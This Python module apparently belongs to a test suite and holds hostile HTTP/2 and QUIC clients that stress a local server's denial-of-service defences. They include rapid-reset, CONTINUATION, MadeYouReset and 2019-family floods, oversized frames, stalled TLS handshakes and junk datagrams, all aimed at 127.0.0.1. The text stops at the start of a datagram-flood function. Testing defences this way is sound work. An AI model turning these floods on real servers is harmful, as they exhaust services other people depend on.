"""Hostile clients of the agent process, one async function per class of attack (issue 14).

Each function attacks a server on 127.0.0.1 and returns an `Outcome`: the
connections it opened (at most how many at once, which is what the
server's memory is divided by), and what the server answered: GOAWAY codes
(HTTP/2), CONNECTION_CLOSE codes (HTTP/3), streams reset, connections
closed by the server and those still open when the attacker stopped
waiting. The functions only attack and observe; the tests decide what the
right answer is.

HTTP/2 frames are packed by the builders of `h2_attacker` (raw frames,
never refused) and read back by `RawH2` with hyperframe; HTTP/3 is driven
by hand: aioquic's sans-I/O `QuicConnection` on a UDP socket of our own
(`QuicPeer`), with `H3Connection` for header blocks where one is needed and
raw bytes where the frame must be wrong.

A socket closed with bytes unread is reset, and the reset can destroy the
GOAWAY the server wrote just before; so after a first volley the floods go
in bursts of one loopback segment, each followed by a PING round trip (or
a pause where a PING is not allowed), and stop as soon as the server has
answered (see `_flood`).
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import socket
import ssl
import struct
from collections import Counter
from collections.abc import Awaitable, Callable, Iterable
from dataclasses import dataclass, field
from typing import Any

import hyperframe.frame
from aioquic.h3.connection import H3_ALPN, H3Connection
from aioquic.h3.connection import ErrorCode as H3ErrorCode
from aioquic.h3.connection import FrameType as H3FrameType
from aioquic.h3.events import HeadersReceived
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.events import (
    ConnectionTerminated,
    HandshakeCompleted,
    QuicEvent,
    StopSendingReceived,
    StreamReset,
)
from aioquic.quic.packet import QuicErrorCode
from h2.errors import ErrorCodes
from h2_attacker import (
    PREFACE,
    SESSION_PATH,
    FrameType,
    Setting,
    continuation,
    data,
    encode_block,
    frame_header,
    headers,
    ping,
    priority,
    request_headers,
    rst_stream,
    settings,
    window_update,
)

from l7_transport import encode_frame
from l7_transport.config import CONTENT_TYPE

HOST = "127.0.0.1"
"""Every attack targets this address, and only this one."""
CONNECT_CONCURRENCY = 64
"""Connections being set up at once (the rest wait their turn, then stay open)."""
PATIENCE = 20.0
"""Seconds of silence after which a wait gives up (a hang detector, never a measure)."""
WAIT = 60.0
"""Seconds an attacker waits for the server to end its connections: an 'eventually',
generous for a loaded machine (unloaded, a server that defends itself takes a second or
two; with a load average of 10 on two cores, it took 50 s to get through 16 rapid-reset
floods)."""
BURST = 48 * 1024
"""Bytes of frames written at once: one loopback segment, read by the server in one go."""
SMALL_BURST = 8 * 1024
"""Bytes written at once where no PING round trip can follow (inside a header block)."""
ATTACKER_SETTINGS = ((Setting.ENABLE_PUSH, 0), (Setting.INITIAL_WINDOW_SIZE, 1 << 24))
"""What the attacker announces unless told otherwise: no push, large windows."""


# ------------------------------------------------------------------ what the attacker saw


def h2_code(code: int) -> str:
    """An HTTP/2 error code by name."""
    try:
        return ErrorCodes(code).name
    except ValueError:
        return hex(code)


def h3_code(code: int) -> str:
    """An HTTP/3 or QUIC error code by name."""
    for kind in (H3ErrorCode, QuicErrorCode):
        try:
            return kind(code).name
        except ValueError:
            continue
    return hex(code)


@dataclass
class Outcome:
    """What one attack did and what the server answered."""

    name: str
    connections: int = 0
    """Hostile connections (or QUIC connection attempts, or datagrams) the attack opened."""
    opened: int = 0
    """Hostile connections set up (over every round)."""
    peak_connections: int = 0
    """The most hostile connections open at once: what the server's memory growth is
    divided by."""
    goaway: Counter[str] = field(default_factory=Counter)
    """The first GOAWAY (HTTP/2) or CONNECTION_CLOSE (HTTP/3) code of each connection."""
    resets: Counter[str] = field(default_factory=Counter)
    """Streams the server reset (RST_STREAM, RESET_STREAM, STOP_SENDING), by code."""
    closed: int = 0
    """Connections the server ended (GOAWAY or CONNECTION_CLOSE, then EOF, or EOF alone)."""
    reset_by_peer: int = 0
    """Of those, connections that ended with a TCP reset (a GOAWAY may have been lost)."""
    still_open: int = 0
    """Connections the server had not ended when the attacker stopped waiting."""
    refused: int = 0
    """Connections that could not be set up (closed by the server at once, or failed)."""
    provoked: int = 0
    """Frames, streams or datagrams sent that each ask the server to do some work."""
    answers: int = 0
    """Responses (HEADERS) the attacker received."""
    notes: list[str] = field(default_factory=list)

    def note(self, text: str) -> None:
        """Keep a few notes, not thousands."""
        if len(self.notes) < 5:
            self.notes.append(text[:200])

    def summary(self) -> str:
        """One line for the test log."""
        return (
            f"{self.name}: {self.connections} connections (peak {self.peak_connections}), "
            f"provoked {self.provoked}, closed {self.closed} (by TCP reset {self.reset_by_peer}), "
            f"still open {self.still_open}, refused {self.refused}, answers {self.answers}, "
            f"goaway {dict(self.goaway)}, resets {dict(self.resets)}"
            + (f", notes {self.notes[:3]}" if self.notes else "")
        )

    def merge(self, more: Outcome) -> Outcome:
        """This outcome and another round of the same attack, added up."""
        self.connections += more.connections
        self.opened += more.opened
        self.peak_connections = max(self.peak_connections, more.peak_connections)
        self.goaway.update(more.goaway)
        self.resets.update(more.resets)
        self.closed += more.closed
        self.reset_by_peer += more.reset_by_peer
        self.still_open += more.still_open
        self.refused += more.refused
        self.provoked += more.provoked
        self.answers += more.answers
        for text in more.notes:
            self.note(text)
        return self


# ------------------------------------------------------------------ a raw HTTP/2 connection


class RawH2:
    """One raw HTTP/2 connection: sends any bytes, reads frames with hyperframe.

    It remembers only what the attacks are judged by (the first GOAWAY,
    resets by code, responses, PING ACKs), not every frame, so that a flood
    of answers costs the attacker little. It acknowledges the server's
    SETTINGS and answers its PINGs, as a client that is alive would.

    It reads when asked (`until`, `until_closed`), or all the time once
    `start_reading` is called: a flood that does not read its answers meets
    the server's backpressure (it stops reading a peer that does not read)
    before its budgets, which is a test of its own (`internal_buffering`).
    """

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer
        self.goaway: int | None = None
        """The code of the first GOAWAY received."""
        self.resets: Counter[int] = Counter()
        """RST_STREAM received, by code."""
        self.responses = 0
        """HEADERS received (responses)."""
        self.settings_acked = 0
        self.eof = False
        """The server ended the connection."""
        self.reset_by_peer = False
        """It ended with a TCP reset."""
        self._pings: set[bytes] = set()
        self._reading: asyncio.Task[None] | None = None
        self._changed = asyncio.Event()
        self._buffer = bytearray()
        self._at = 0

    @classmethod
    async def open(cls, port: int, *, ssl_context: ssl.SSLContext | None) -> RawH2:
        """A TCP connection (TLS with ALPN h2 when `ssl_context` is given); nothing sent."""
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection(
                HOST,
                port,
                ssl=ssl_context,
                server_hostname=HOST if ssl_context is not None else None,
            ),
            PATIENCE,
        )
        return cls(reader, writer)

    @classmethod
    async def connect(
        cls,
        port: int,
        *,
        ssl_context: ssl.SSLContext | None,
        announce: Iterable[tuple[int, int]] = ATTACKER_SETTINGS,
    ) -> RawH2:
        """Connect, send the preface and SETTINGS, and wait for the server's ACK of them."""
        raw = await cls.open(port, ssl_context=ssl_context)
        raw.send(PREFACE, settings(*announce), window_update(0, 1 << 30))
        if not await raw.until(lambda: raw.settings_acked > 0):
            raw.abort()
            msg = "the server closed the connection before acknowledging SETTINGS"
            raise ConnectionError(msg)
        return raw

    # ------------------------------------------------------------- sending

    @property
    def closing(self) -> bool:
        """The server has answered with GOAWAY or ended the connection."""
        return self.eof or self.goaway is not None or self.writer.is_closing()

    def send(self, *chunks: bytes) -> None:
        """Write bytes at once (nothing happens once the connection is closing)."""
        if not self.writer.is_closing():
            self.writer.write(b"".join(chunks))

    async def drain(self, seconds: float = PATIENCE) -> bool:
        """Wait until the socket took what was written; False if it did not (closed, or stuck)."""
        try:
            await asyncio.wait_for(self.writer.drain(), seconds)
        except (ConnectionError, TimeoutError, ssl.SSLError):
            return False
        return True

    def request(
        self, stream_id: int, path: str = SESSION_PATH, *, end_stream: bool = False
    ) -> None:
        """Send HEADERS opening a request (a session by default)."""
        self.send(headers(stream_id, encode_block(request_headers(path)), end_stream=end_stream))

    def abort(self) -> None:
        """Drop the connection (and stop reading it)."""
        if self._reading is not None:
            self._reading.cancel()
        self.writer.transport.abort()

    # ------------------------------------------------------------- receiving

    async def read_some(self, patience: float = PATIENCE) -> bool:
        """Read once and handle the frames; False at EOF or after `patience` of silence."""
        if self.eof:
            return False
        try:
            chunk = await asyncio.wait_for(self.reader.read(256 * 1024), patience)
        except TimeoutError:
            return False
        except (ConnectionError, ssl.SSLError):
            self.reset_by_peer = True
            chunk = b""
        if not chunk:
            self.eof = True
            self._changed.set()
            return False
        self._buffer += chunk
        self._parse()
        self._changed.set()
        return True

    def start_reading(self) -> None:
        """Read everything the server sends from now on, in a task of its own."""

        async def read_all() -> None:
            while not self.eof:
                await self.read_some()

        self._reading = asyncio.get_running_loop().create_task(read_all())

    async def until(self, condition: Callable[[], bool], patience: float = PATIENCE) -> bool:
        """Read until `condition()` holds; False if the connection ends or goes silent first."""
        if self._reading is not None:  # the reader task reads: wait for what it finds
            while not condition() and not self.eof:
                self._changed.clear()
                try:
                    await asyncio.wait_for(self._changed.wait(), patience)
                except TimeoutError:
                    break
            return condition()
        while not condition():
            if not await self.read_some(patience):
                return condition()
        return True

    async def until_closed(self, seconds: float) -> bool:
        """Read until the server ends the connection; False if it is still open after `seconds`."""
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(seconds):
                while not self.eof:
                    if self._reading is not None:
                        await self.until(lambda: self.eof, seconds)
                    else:
                        await self.read_some(seconds + 1)
        return self.eof

    async def barrier(self, patience: float = PATIENCE) -> bool:
        """A PING round trip: True once the server has handled all sent before; False if it
        closed (or went silent)."""
        opaque = os.urandom(8)
        self.send(ping(opaque))
        return await self.until(lambda: opaque in self._pings or self.closing, patience) and (
            opaque in self._pings
        )

    def _parse(self) -> None:
        buffer, at = self._buffer, self._at
        while len(buffer) - at >= 9:
            parsed, length = hyperframe.frame.Frame.parse_frame_header(
                memoryview(buffer)[at : at + 9]
            )
            if len(buffer) - at - 9 < length:
                break
            body = bytes(buffer[at + 9 : at + 9 + length])
            at += 9 + length
            self._react(buffer[at - 9 - length + 3], parsed, body)
        if at > 1 << 20 or at == len(buffer):
            del buffer[:at]
            at = 0
        self._at = at

    def _react(self, kind: int, parsed: hyperframe.frame.Frame, body: bytes) -> None:
        if kind == FrameType.GOAWAY:
            if self.goaway is None:
                self.goaway = int.from_bytes(body[4:8], "big")
        elif kind == FrameType.RST_STREAM:
            self.resets[int.from_bytes(body[:4], "big")] += 1
        elif kind == FrameType.HEADERS:
            self.responses += 1
        elif kind == FrameType.SETTINGS:
            if "ACK" in parsed.flags:
                self.settings_acked += 1
            else:
                self.send(settings(ack=True))
        elif kind == FrameType.PING:
            if "ACK" in parsed.flags:
                self._pings.add(body)
            else:
                self.send(ping(body, ack=True))

    def tally(self, outcome: Outcome, *, closed: bool) -> None:
        """Add this connection's GOAWAY, resets, answers and end to `outcome`."""
        if self.goaway is not None:
            outcome.goaway[h2_code(self.goaway)] += 1
        for code, count in self.resets.items():
            outcome.resets[h2_code(code)] += count
        outcome.answers += self.responses
        if closed:
            outcome.closed += 1
            outcome.reset_by_peer += self.reset_by_peer
        else:
            outcome.still_open += 1


async def _connect_h2(
    port: int,
    ssl_context: ssl.SSLContext | None,
    outcome: Outcome,
    announce: Iterable[tuple[int, int]] = ATTACKER_SETTINGS,
) -> RawH2 | None:
    try:
        return await RawH2.connect(port, ssl_context=ssl_context, announce=announce)
    except (OSError, TimeoutError, ssl.SSLError) as error:
        outcome.refused += 1
        outcome.note(f"connect: {type(error).__name__}: {error}")
        return None


async def _many(
    count: int, make: Callable[[int], Awaitable[Any]], *, concurrency: int = CONNECT_CONCURRENCY
) -> list[Any]:
    """Run `make(i)` for i < count, `concurrency` of them at a time."""
    gate = asyncio.Semaphore(concurrency)

    async def one(index: int) -> Any:
        async with gate:
            return await make(index)

    return list(await asyncio.gather(*(one(i) for i in range(count))))


async def _watch_all(raws: list[RawH2], outcome: Outcome, seconds: float) -> None:
    """Wait for the server to end every connection (up to `seconds`), then tally and drop them."""

    async def watch(raw: RawH2) -> None:
        raw.tally(outcome, closed=await raw.until_closed(seconds))
        raw.abort()

    await asyncio.gather(*(watch(raw) for raw in raws))


def _session_block() -> bytes:
    return encode_block(request_headers(SESSION_PATH))


UNPACED = 4 * BURST
"""Bytes a flood sends before its first PING round trip: enough to empty any budget at
once, however slowly a loaded machine reads them."""


async def _flood(
    raw: RawH2, frames: Iterable[bytes], *, barrier: bool = True, ramp: bool = False
) -> int:
    """Write frames in bursts until they run out or the server answers; frames written.

    The first `UNPACED` bytes go at once (a flood, whatever the machine's
    speed), then bursts of `BURST` bytes, each followed by a PING round
    trip (`barrier`), or, where no PING is allowed (inside a header block),
    bursts of `SMALL_BURST` bytes and a short wait for the server's answer.
    With `ramp`, the first burst is one frame and each next twice as large:
    a server that closes at the first fault has then read all there was.
    """
    limit = BURST if barrier else SMALL_BURST
    unpaced = 0 if ramp or not barrier else UNPACED
    sent = 0
    chunk: list[bytes] = []
    size = 0
    target = 1 if ramp else 1 << 30
    for item in frames:
        chunk.append(item)
        size += len(item)
        if len(chunk) < target and size < limit:
            continue
        if raw.closing:
            break
        raw.send(*chunk)
        sent += len(chunk)
        unpaced -= size
        target = len(chunk) * 2 if ramp else target
        chunk, size = [], 0
        if not await raw.drain():
            break
        if unpaced > 0:
            continue
        if barrier:
            if not await raw.barrier():
                break
        elif await raw.until(lambda: raw.closing, patience=0.05):
            break
    else:
        if chunk and not raw.closing:
            raw.send(*chunk)
            sent += len(chunk)
    return sent


# ------------------------------------------------------------------ (a) oversized frames

OVERSIZED_KINDS = (FrameType.DATA, FrameType.HEADERS, 0xFA, FrameType.CONTINUATION)
"""Frame types announced oversized, one per connection in turn (0xFA: an unknown type)."""


async def oversized_frames(
    port: int,
    *,
    ssl_context: ssl.SSLContext | None,
    connections: int = 100,
    announced: int = (1 << 24) - 1,  # the most a header can announce
    body: int = 1024 * 1024,
    wait: float = WAIT,
) -> Outcome:
    """Frames whose header announces more than SETTINGS_MAX_FRAME_SIZE, on many connections.

    Each connection opens a session, then sends one frame header announcing
    `announced` bytes and the first 16 KiB of its body; unless the server
    answers within a moment, the rest of the body (`body` bytes in all)
    follows, as in the attack that pinned 300 MiB. All connections are set
    up first, so that they are open at once.
    """
    outcome = Outcome("oversized frames", connections=connections)
    raws = [
        r
        for r in await _many(connections, lambda _: _connect_h2(port, ssl_context, outcome))
        if r is not None
    ]
    outcome.peak_connections = outcome.opened = len(raws)
    filler = os.urandom(64 * 1024)

    async def attack(index: int, raw: RawH2) -> None:
        kind = OVERSIZED_KINDS[index % len(OVERSIZED_KINDS)]
        stream = 1 if kind in (FrameType.DATA, FrameType.CONTINUATION) else 3
        if kind == FrameType.CONTINUATION:  # it must follow HEADERS without END_HEADERS
            raw.send(headers(1, _session_block()[:4], end_headers=False))
        else:
            raw.request(1)
        raw.send(frame_header(kind, announced, 0, stream), filler[: 16 * 1024])
        outcome.provoked += 1
        # A moment for the server to answer at the header (a pause, not a measure).
        await raw.until(lambda: raw.closing, patience=2)
        sent = 16 * 1024
        while sent < body and not raw.closing:
            raw.send(filler)
            sent += len(filler)
            if not await raw.drain(5):
                break
        raw.tally(outcome, closed=await raw.until_closed(wait))
        raw.abort()

    await asyncio.gather(*(attack(i, r) for i, r in enumerate(raws)))
    return outcome


# ------------------------------------------------------------------ (b) MadeYouReset

MADE_YOU_RESET = ("window_overflow", "window_zero", "bad_l8_frame", "malformed_headers")
"""Ways to make the server reset a stream it has just opened (CVE-2025-8671)."""


def _provocation(variant: str, stream_id: int, block: bytes) -> bytes:
    """The frames that open a session on `stream_id` and make the server reset it."""
    if variant == "window_overflow":  # RFC 9113 6.9.1: a stream error, FLOW_CONTROL_ERROR
        return headers(stream_id, block) + window_update(stream_id, 2**31 - 1)
    if variant == "window_zero":  # RFC 9113 6.9: a stream error, PROTOCOL_ERROR
        return headers(stream_id, block) + window_update(stream_id, 0)
    if variant == "bad_l8_frame":  # an L8 frame header announcing 4 GiB: the session resets
        return headers(stream_id, block) + data(stream_id, b"\0\xff\xff\xff\xff")
    if variant == "malformed_headers":  # an upper-case field name: a malformed request
        bad = encode_block(request_headers(SESSION_PATH, extra=[("X-Upper", "1")]))
        return headers(stream_id, bad)
    msg = f"unknown MadeYouReset variant {variant!r}"
    raise ValueError(msg)


async def made_you_reset(
    port: int,
    *,
    ssl_context: ssl.SSLContext | None,
    variant: str,
    streams: int = 10_000,
    wait: float = WAIT,
) -> Outcome:
    """Open `streams` sessions, each with a fault that makes the server reset it."""
    outcome = Outcome(f"MadeYouReset ({variant})", connections=1)
    raw = await _connect_h2(port, ssl_context, outcome)
    if raw is None:
        return outcome
    outcome.peak_connections = outcome.opened = 1
    raw.start_reading()
    block = _session_block()
    frames = (_provocation(variant, 1 + 2 * i, block) for i in range(streams))
    outcome.provoked = await _flood(raw, frames, ramp=True)
    raw.tally(outcome, closed=await raw.until_closed(wait))
    raw.abort()
    return outcome


# ------------------------------------------------------------------ (c) silent sessions


async def silent_sessions(
    port: int,
    *,
    ssl_context: ssl.SSLContext | None,
    connections: int = 1000,
    wait: float = WAIT,
) -> Outcome:
    """Connections that open an L8 session and then send nothing at all."""
    outcome = Outcome("silent sessions", connections=connections)

    async def opened(_: int) -> RawH2 | None:
        raw = await _connect_h2(port, ssl_context, outcome)
        if raw is not None:
            raw.request(1)
            outcome.provoked += 1
        return raw

    raws = [r for r in await _many(connections, opened) if r is not None]
    outcome.peak_connections = outcome.opened = len(raws)
    await _watch_all(raws, outcome, wait)
    return outcome


# ------------------------------------------------------------------ (d) TLS never finished

# A TLS record announcing a 512-byte ClientHello, and the first 40 bytes of it.
_PARTIAL_CLIENT_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"


async def tls_never_finished(port: int, *, connections: int = 300, wait: float = WAIT) -> Outcome:
    """TCP connections to the TLS port that start a ClientHello and never finish it."""
    outcome = Outcome("TLS handshake never finished", connections=connections)

    async def opened(_: int) -> RawH2 | None:
        try:
            raw = await RawH2.open(port, ssl_context=None)
        except (OSError, TimeoutError):
            outcome.refused += 1
            return None
        raw.send(_PARTIAL_CLIENT_HELLO + os.urandom(29))
        outcome.provoked += 1
        return raw

    raws = [r for r in await _many(connections, opened) if r is not None]
    outcome.peak_connections = outcome.opened = len(raws)
    await _watch_all(raws, outcome, wait)  # what the server sends is not HTTP/2: ignored
    return outcome


# ------------------------------------------------------------------ (e) random bytes in TLS


async def tls_garbage(
    port: int,
    *,
    ssl_context: ssl.SSLContext,
    connections: int = 300,
    size: int = 16 * 1024,
    wait: float = WAIT,
) -> Outcome:
    """TLS connections (ALPN h2) that send random bytes instead of HTTP/2."""
    outcome = Outcome("random bytes inside TLS", connections=connections)

    async def opened(_: int) -> RawH2 | None:
        try:
            return await RawH2.open(port, ssl_context=ssl_context)
        except (OSError, TimeoutError, ssl.SSLError) as error:
            outcome.refused += 1
            outcome.note(f"connect: {type(error).__name__}: {error}")
            return None

    raws = [r for r in await _many(connections, opened) if r is not None]
    outcome.peak_connections = outcome.opened = len(raws)
    for raw in raws:
        raw.send(os.urandom(size))
        outcome.provoked += 1
    await _watch_all(raws, outcome, wait)
    return outcome


# ------------------------------------------------------------------ caps on connections


async def connection_caps(
    port: int, *, ssl_context: ssl.SSLContext | None, connections: int, wait: float = WAIT
) -> Outcome:
    """More connections than the caps allow, each finishing its HTTP/2 handshake, then idle."""
    outcome = Outcome("connection caps", connections=connections)
    raws = [
        r
        for r in await _many(connections, lambda _: _connect_h2(port, ssl_context, outcome))
        if r is not None
    ]
    outcome.peak_connections = outcome.opened = len(raws)
    await _watch_all(raws, outcome, wait)
    return outcome


# ------------------------------------------------------------------ (f) the 2019 family


def _flood_frames(kind: str, count: int) -> Iterable[bytes]:  # noqa: C901, PLR0912 - one per kind
    """The frames of each flood of the HTTP/2 denial-of-service family."""
    block = _session_block()
    if kind == "ping":  # CVE-2019-9512
        for i in range(count):
            yield ping(struct.pack(">Q", i))
    elif kind == "settings":  # CVE-2019-9515
        for i in range(count):
            yield settings((Setting.MAX_HEADER_LIST_SIZE, 16384 + i % 2))
    elif kind == "empty_frames":  # CVE-2019-9518: empty DATA on an open session
        yield headers(1, block)
        for _ in range(count):
            yield data(1, b"")
    elif kind == "priority_churn":  # CVE-2019-9513: a dependency tree rebuilt without end
        for i in range(count):
            stream = 1 + 2 * (i % 200)
            parent = 1 + 2 * ((i * 7 + 3) % 200)
            yield priority(stream, parent if parent != stream else 0, exclusive=True)
    elif kind == "rapid_reset":  # CVE-2023-44487
        for i in range(count):
            yield headers(1 + 2 * i, block) + rst_stream(1 + 2 * i, ErrorCodes.CANCEL)
    elif kind == "zero_length_headers":  # CVE-2019-9516: empty names and values, indexed
        empty = b"\x40\x00\x00" * 64  # 64 literal fields with incremental indexing
        for i in range(count):
            yield headers(1 + 2 * i, block + empty)
    elif kind == "continuation":  # 2024: CONTINUATION without END_HEADERS, without end
        yield headers(1, block[:8], end_headers=False)
        chunk = os.urandom(4096)
        for _ in range(count):
            yield continuation(1, chunk, end_headers=False)
    elif kind == "continuation_tiny":  # the same, one byte at a time
        yield headers(1, block[:8], end_headers=False)
        for _ in range(count):
            yield continuation(1, b"\x00", end_headers=False)
    else:
        msg = f"unknown flood {kind!r}"
        raise ValueError(msg)


FLOODS = (
    "ping",
    "settings",
    "empty_frames",
    "priority_churn",
    "rapid_reset",
    "zero_length_headers",
    "continuation",
    "continuation_tiny",
)
"""The floods `flood` knows."""


async def flood(
    port: int,
    *,
    ssl_context: ssl.SSLContext | None,
    kind: str,
    count: int = 100_000,
    wait: float = WAIT,
) -> Outcome:
    """One flood of the 2019 family (or a later relative) on one connection (see `_flood`)."""
    outcome = Outcome(f"{kind} flood", connections=1)
    raw = await _connect_h2(port, ssl_context, outcome)
    if raw is None:
        return outcome
    outcome.peak_connections = outcome.opened = 1
    raw.start_reading()
    # No PING may sit inside a header block: the CONTINUATION floods pause instead.
    barrier = not kind.startswith("continuation")
    outcome.provoked = await _flood(raw, _flood_frames(kind, count), barrier=barrier)
    raw.tally(outcome, closed=await raw.until_closed(wait))
    raw.abort()
    return outcome


async def internal_buffering(
    port: int,
    *,
    ssl_context: ssl.SSLContext | None,
    requests: int = 50_000,
    batch: int = 100,
    wait: float = WAIT,
) -> Outcome:
    """CVE-2019-9517: requests whose answers the attacker never reads (refusals, 404).

    Every request is complete and valid HTTP/2, to a path the server refuses
    with a short problem document, so nothing counts against a budget of
    faults; the attacker keeps sending and never reads, so the answers pile
    up in the server unless it stops reading while its peer does not read.
    """
    outcome = Outcome("internal data buffering (unread answers)", connections=1)
    raw = await _connect_h2(port, ssl_context, outcome)
    if raw is None:
        return outcome
    outcome.peak_connections = outcome.opened = 1
    block = encode_block(request_headers("/nothing-here"))
    sent = 0
    while sent < requests and not raw.writer.is_closing():
        # Fewer than SETTINGS_MAX_CONCURRENT_STREAMS at a time, a moment apart (pacing, not
        # a measure), as if each batch had been answered: the answers are what piles up.
        raw.send(*(headers(1 + 2 * i, block, end_stream=True) for i in range(sent, sent + batch)))
        sent += batch
        if not await raw.drain(wait):
            # The server stopped reading (backpressure) or closed: the defence.
            outcome.note(f"the server stopped taking requests after {sent}")
            break
        await asyncio.sleep(0.002)
    outcome.provoked = sent
    raw.tally(outcome, closed=await raw.until_closed(wait))
    raw.abort()
    return outcome


async def data_dribble(
    port: int,
    *,
    ssl_context: ssl.SSLContext | None,
    streams: int = 100,
    rounds: int = 200,
    wait: float = WAIT,
) -> Outcome:
    """CVE-2019-9511: the server made to queue its answers and send them a byte at a time.

    The attacker announces an initial stream window of one byte, opens
    `streams` sessions that each send an L8 frame the server must answer (a
    HELLO that is not one: it is refused), then grants one byte per stream
    per round, `rounds` times, and then nothing more.
    """
    outcome = Outcome("data dribble", connections=1)
    raw = await _connect_h2(
        port,
        ssl_context,
        outcome,
        announce=((Setting.ENABLE_PUSH, 0), (Setting.INITIAL_WINDOW_SIZE, 1)),
    )
    if raw is None:
        return outcome
    outcome.peak_connections = outcome.opened = 1
    block = _session_block()
    bogus = encode_frame(b'{"protocol":"ioa/1","performative":"HELLO","content":{}}')
    ids = [1 + 2 * i for i in range(streams)]
    raw.send(*(headers(s, block) + data(s, bogus) for s in ids))
    outcome.provoked = streams
    for _ in range(rounds):
        if raw.closing:
            break
        raw.send(*(window_update(s, 1) for s in ids))
        if not await raw.drain():
            break
        await raw.until(lambda: raw.closing, patience=0.005)
    raw.tally(outcome, closed=await raw.until_closed(wait))
    raw.abort()
    return outcome


# ------------------------------------------------------------------ (g) HTTP/3 by hand


class QuicPeer(asyncio.DatagramProtocol):
    """One client QUIC connection on its own UDP socket, driven by hand (sans-I/O aioquic)."""

    def __init__(self, quic: QuicConnection, address: tuple[str, int]) -> None:
        self.quic = quic
        self.address = address
        self.loop = asyncio.get_running_loop()
        self.transport: asyncio.DatagramTransport | None = None
        self.http: H3Connection | None = None
        self.connected = asyncio.Event()
        self.terminated = asyncio.Event()
        self.close_code: int | None = None
        self.close_reason = ""
        self.resets: Counter[int] = Counter()
        self.stopped: Counter[int] = Counter()
        self.responses: dict[int, list[tuple[bytes, bytes]]] = {}
        self.deaf = False
        """Set: nothing more is read, answered or sent (a client that went silent)."""
        self._timer: asyncio.TimerHandle | None = None

    @classmethod
    async def connect(cls, port: int, *, ca: str, handshake: bool = True) -> QuicPeer:
        """A connection to the server; with `handshake`, wait for it and start HTTP/3."""
        configuration = QuicConfiguration(
            is_client=True, alpn_protocols=H3_ALPN, server_name=HOST, idle_timeout=60
        )
        configuration.load_verify_locations(ca)
        quic = QuicConnection(configuration=configuration)
        loop = asyncio.get_running_loop()
        _, peer = await loop.create_datagram_endpoint(
            lambda: cls(quic, (HOST, port)), local_addr=(HOST, 0), family=socket.AF_INET
        )
        quic.connect(peer.address, now=loop.time())
        peer.transmit()
        if handshake:
            async with asyncio.timeout(10):
                await peer.connected.wait()
            peer.http = H3Connection(quic)
            peer.transmit()
        return peer

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = transport  # type: ignore[assignment]

    def datagram_received(self, data: bytes, addr: Any) -> None:
        if self.deaf:
            return
        self.quic.receive_datagram(data, addr, now=self.loop.time())
        self._events()

    def _events(self) -> None:
        while (event := self.quic.next_event()) is not None:
            self._on(event)
        self.transmit()

    def _on(self, event: QuicEvent) -> None:
        if isinstance(event, HandshakeCompleted):
            self.connected.set()
        elif isinstance(event, ConnectionTerminated):
            self.close_code = event.error_code
            self.close_reason = event.reason_phrase
            self.terminated.set()
        elif isinstance(event, StreamReset):
            self.resets[event.error_code] += 1
        elif isinstance(event, StopSendingReceived):
            self.stopped[event.error_code] += 1
        if self.http is not None:
            with contextlib.suppress(Exception):  # whatever the server sends, keep reading
                for h3_event in self.http.handle_event(event):
                    if isinstance(h3_event, HeadersReceived):
                        self.responses[h3_event.stream_id] = h3_event.headers

    def transmit(self) -> None:
        """Send what aioquic has queued, and arm its timer."""
        if self.transport is None or self.deaf:
            return
        for datagram, addr in self.quic.datagrams_to_send(now=self.loop.time()):
            self.transport.sendto(datagram, addr)
        if self._timer is not None:
            self._timer.cancel()
            self._timer = None
        at = self.quic.get_timer()
        if at is not None and not self.terminated.is_set():
            self._timer = self.loop.call_at(at, self._on_timer)

    def _on_timer(self) -> None:
        self._timer = None
        if self.deaf:
            return
        self.quic.handle_timer(now=self.loop.time())
        self._events()

    def session_headers(self) -> list[tuple[bytes, bytes]]:
        """The request headers of a session."""
        return [
            (b":method", b"POST"),
            (b":scheme", b"https"),
            (b":authority", f"{HOST}:{self.address[1]}".encode()),
            (b":path", SESSION_PATH.encode()),
            (b"content-type", CONTENT_TYPE.encode()),
        ]

    async def stream_credit(self, seconds: float = PATIENCE) -> bool:
        """Wait until the server's MAX_STREAMS allows one more request stream (aioquic would
        hold the stream back, yet send a reset of it at once: a STREAM_LIMIT_ERROR)."""
        quic: Any = self.quic  # aioquic's private counters
        deadline = self.loop.time() + seconds
        while quic._local_next_stream_id_bidi // 4 >= quic._remote_max_streams_bidi:
            if self.terminated.is_set() or self.loop.time() > deadline:
                return False
            self.transmit()
            await asyncio.sleep(0.005)
        return True

    def open_session(self, *, end_stream: bool = False) -> int:
        """Send the HEADERS of a session on a new request stream; its id."""
        assert self.http is not None
        stream_id = self.quic.get_next_available_stream_id()
        self.http.send_headers(stream_id, self.session_headers(), end_stream=end_stream)
        return stream_id

    def tally(self, outcome: Outcome) -> None:
        """Add this connection's close code and resets to the outcome."""
        if self.close_code is not None:
            outcome.goaway[h3_code(self.close_code)] += 1
            outcome.closed += 1
            if self.close_reason and len(outcome.notes) < 5:
                outcome.notes.append(self.close_reason[:120])
        else:
            outcome.still_open += 1
        for code, count in self.resets.items():
            outcome.resets[f"RESET_STREAM {h3_code(code)}"] += count
        for code, count in self.stopped.items():
            outcome.resets[f"STOP_SENDING {h3_code(code)}"] += count

    async def wait_closed(self, seconds: float) -> bool:
        """Wait for the server to close the connection; False if it did not."""
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(seconds):
                await self.terminated.wait()
        return self.terminated.is_set()

    def close(self) -> None:
        """Close the connection (CONNECTION_CLOSE, if still open) and the socket."""
        if not self.terminated.is_set():
            self.quic.close(error_code=QuicErrorCode.NO_ERROR)
            self.transmit()
        if self._timer is not None:
            self._timer.cancel()
        if self.transport is not None:
            self.transport.close()


def _initial_shaped(size: int = 1200) -> bytes:
    """A datagram shaped like a QUIC v1 Initial (random connection ids), its payload junk."""
    head = bytes([0xC3]) + struct.pack(">I", 1) + b"\x08" + os.urandom(8) + b"\x08" + os.urandom(8)
    head += b"\x00"  # no token
    body = size - len(head) - 2
    return head + struct.pack(">H", 0x4000 | body) + os.urandom(body)


async def datagram_flood(
    port: int,
    *,
    datagrams: int = 20_000,
    shaped_every: int = 4,
    per_pause: int = 50,
    pause: float = 0.002,
) -> Outcome:
